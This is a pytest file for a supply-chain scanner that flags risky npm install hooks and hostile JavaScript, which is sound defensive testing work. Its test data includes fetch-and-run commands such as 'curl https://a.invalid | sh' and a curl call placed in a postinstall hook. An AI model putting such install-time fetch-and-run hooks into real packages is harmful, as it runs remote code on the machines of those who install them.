"""What npm runs at installation, and what hostile scripts do."""

import json

import pytest

from bartizan.lab.hostile_packages import NPM
from bartizan.supply.packages.javascript_code import javascript_findings, package_json_findings


def hooks(**scripts):
    """Return the rules that a manifest with these scripts breaks."""
    return [one.rule for one in package_json_findings(json.dumps({"scripts": scripts}), "package.json")[0]]


@pytest.mark.parametrize(
    "command",
    ["node-gyp rebuild", "prebuild-install || node-gyp rebuild", "node-gyp-build", "husky install", "echo hi"],
)
def test_usual_builds_are_fine(command):
    """They compile, or print."""
    assert hooks(install=command, test="curl https://a.invalid | sh") == []


def test_other_hooks_by_what_they_do():
    """A script of its own: review; the network: block."""
    assert hooks(postinstall="node setup.js") == ["install-script"]
    assert hooks(postinstall="curl https://a.invalid/x") == ["install-remote"]
    found, started = package_json_findings(json.dumps({"scripts": {"install": "node ./lib/x.js"}}), "p")
    assert started == ["lib/x.js"]
    assert found
    assert package_json_findings("{", "p")[0][0].rule == "manifest-unreadable"


@pytest.mark.parametrize("sample", [one for one in NPM if one[2]], ids=lambda one: one[0])
def test_every_hostile_script_is_named(sample):
    """When it is run at installation."""
    ((_, source),) = sample[2].items()
    assert max(one.severity for one in javascript_findings(source.encode(), "x.js", eager=True)) >= 3


@pytest.mark.parametrize(
    "source",
    [
        "const data = await fetch(url); console.log(process.env.HOME)",
        "const b = Buffer.from(text, 'base64')",
        "child_process.execSync('git status')",
        "eval('1 + 1')",
    ],
)
def test_ordinary_scripts_are_left_alone(source):
    """Each uses a word that a rule looks for."""
    assert javascript_findings(source.encode(), "x.js") == []
